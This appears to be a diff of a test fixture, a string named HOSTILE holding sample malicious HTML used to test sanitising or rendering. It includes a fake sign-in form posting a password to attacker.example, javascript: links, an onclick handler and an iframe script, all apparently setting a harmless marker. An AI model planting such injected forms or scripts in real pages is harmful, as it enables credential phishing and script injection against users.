@@ -23,7 +23,8 @@ HOSTILE = """
 
 <form action="https://attacker.example/take"><input name="password"><button>Sign in again</button></form>
 
-[Read more](javascript:window.hacked=3) and <a href="javascript:window.hacked=4">here</a>. We use your name for marketing <b onclick="window.hacked=5">now</b>.
+[Read more](javascript:window.hacked=3) and <a href="javascript:window.hacked=4">here</a>.
+We use your name for marketing <b onclick="window.hacked=5">now</b>.
 
 <iframe srcdoc="<script>parent.hacked = 6</script>"></iframe>
 """
